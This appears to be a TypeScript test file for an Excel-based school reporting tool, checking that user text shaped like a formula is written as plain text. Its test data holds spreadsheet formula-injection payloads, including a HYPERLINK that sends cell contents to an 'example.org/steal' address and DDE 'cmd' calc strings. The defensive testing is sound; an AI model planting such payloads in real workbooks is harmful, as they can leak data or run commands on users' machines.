/**
 * User text is never written as a formula (quality.md «Security», workbook.md §4): a school
 * name, a municipality, a roadmap event, its section or responsible typed as «=HYPERLINK(…)», «+…», «-…», «@…» ends up
 * as text in the report sheets — through a full run, on both adapters. A formula there would
 * run in the user's Excel (a link to anywhere, a DDE call) the moment the sheet is opened.
 */
import { ValueType, type Workbook } from "exceljs";
import { Orchestrator } from "../../src/app/orchestrator";
import { REPORT_SHEETS } from "../../src/domain/i18n/ru";
import type { CellValue } from "../../src/domain/sheet/snapshot";
import { OfficeGateway } from "../../src/workbook/office/office-gateway";
import { SERVICE_SHEET } from "../../src/workbook/service-state";
import { XlsxGateway } from "../../src/workbook/xlsx/xlsx-gateway";
import { FakeExcel } from "../fake-excel";
import { loadBook } from "../fixtures/xlsx/user-book";

const now = () => new Date(2026, 10, 24, 9, 30, 0);
const REPORT_DATE = "2026-11-22";

const HYPERLINK = '=HYPERLINK("http://example.org/steal?"&A1,"Открыть")';
const INJECTIONS = {
  name: HYPERLINK,
  municipality: "+cmd|' /C calc'!A0",
  event: "=WEBSERVICE(\"http://example.org\")",
  responsible: "@SUM(1+1)*cmd|' /C calc'!A0",
  section: "-2+3",
};

/** A registry, two years of ВПР (edu1 fails: ШНОР) and a roadmap, each with user text that looks like a formula. */
function sheets(): Record<string, CellValue[][]> {
  const registry: CellValue[][] = [["Код ОО", "Наименование ОО", "Муниципалитет"], ["edu1", INJECTIONS.name, INJECTIONS.municipality], ["edu2", "МБОУ «СОШ № 2»", "Район"]];
  const results: CellValue[][] = [["Код ОО", "Год", "Процедура", "Предмет", "Класс", "Кол-во участников", "«2»"]];
  for (const id of ["edu1", "edu2"]) for (const year of [2025, 2026]) for (const subject of ["Русский язык", "Математика"]) for (const grade of [5, 8]) results.push([id, year, "ВПР", subject, grade, 25, id === "edu1" ? 10 : 1]);
  results.push(["edu2", 2026, "ВПР", "Русский язык", 6, "=1+1", ""]); // a formula-looking count: a problem quoting it
  const roadmap: CellValue[][] = [
    ["Раздел", "Мероприятие", "Срок", "Ответственный"],
    [INJECTIONS.section, INJECTIONS.event, "Февраль", INJECTIONS.responsible],
  ];
  return { "Реестр ОО": registry, Результаты: results, "Дорожная карта": roadmap };
}

const REPORTS = new Set<string>([...Object.values(REPORT_SHEETS), SERVICE_SHEET]);

/** Every report cell's text and whether it is a formula. */
function reportCellsOf(wb: Workbook): { sheet: string; address: string; text: string; formula: boolean }[] {
  const out: { sheet: string; address: string; text: string; formula: boolean }[] = [];
  for (const ws of wb.worksheets) {
    if (!REPORTS.has(ws.name)) continue;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const formula = cell.type === ValueType.Formula || cell.formula !== undefined;
        out.push({ sheet: ws.name, address: cell.address, text: typeof cell.value === "string" ? cell.value : String(cell.text), formula });
      }),
    );
  }
  return out;
}

describe("user text never becomes a formula", () => {
  test(".xlsx adapter: after a full run and a save, every report cell is a value; the user's text is there as text", async () => {
    const { Workbook } = await import("exceljs");
    const wb = new Workbook();
    for (const [name, rows] of Object.entries(sheets())) wb.addWorksheet(name).addRows(rows as unknown[][]);
    const gateway = await XlsxGateway.fromBuffer(new Uint8Array(await wb.xlsx.writeBuffer()));
    const outcome = await new Orchestrator(gateway).calculate({ now, reportDate: REPORT_DATE });
    expect(outcome.json.schools.find((s) => s.school_id === "edu1")?.status).toBe("shnor");

    const cells = reportCellsOf(await loadBook(await gateway.toBuffer()));
    expect(cells.length).toBeGreaterThan(100);
    expect(cells.filter((c) => c.formula)).toEqual([]);
    const texts = new Set(cells.map((c) => c.text));
    for (const text of Object.values(INJECTIONS)) expect({ text, present: texts.has(text) }).toEqual({ text, present: true });
    expect(cells.some((c) => c.text.includes("«=1+1»"))).toBe(true); // the problem quoting the count cell
  });

  test("Office adapter on the fake Excel (which parses strings as Excel does): no report cell gets a formula", async () => {
    const fake = FakeExcel.fromSheets(Object.entries(sheets()).map(([name, values]) => ({ name, values: values as (string | number | boolean)[][] })));
    const outcome = await new Orchestrator(new OfficeGateway({ run: fake.run, isSetSupported: fake.isSetSupported })).calculate({ now, reportDate: REPORT_DATE });
    expect(outcome.written).toEqual(expect.arrayContaining([REPORT_SHEETS.indicators, REPORT_SHEETS.roadmap]));

    const cells: { sheet: string; r: number; c: number; value: unknown; formula?: string }[] = [];
    for (const sheet of fake.model.sheets) {
      if (!REPORTS.has(sheet.name)) continue;
      sheet.rows.forEach((row, r) => row?.forEach((cell, c) => cell && cells.push({ sheet: sheet.name, r, c, value: cell.value, formula: cell.formula })));
    }
    expect(cells.length).toBeGreaterThan(100);
    expect(cells.filter((c) => c.formula !== undefined)).toEqual([]);
    const texts = new Set(cells.map((c) => c.value));
    for (const text of Object.values(INJECTIONS)) expect({ text, present: texts.has(text) }).toEqual({ text, present: true });
  });
});
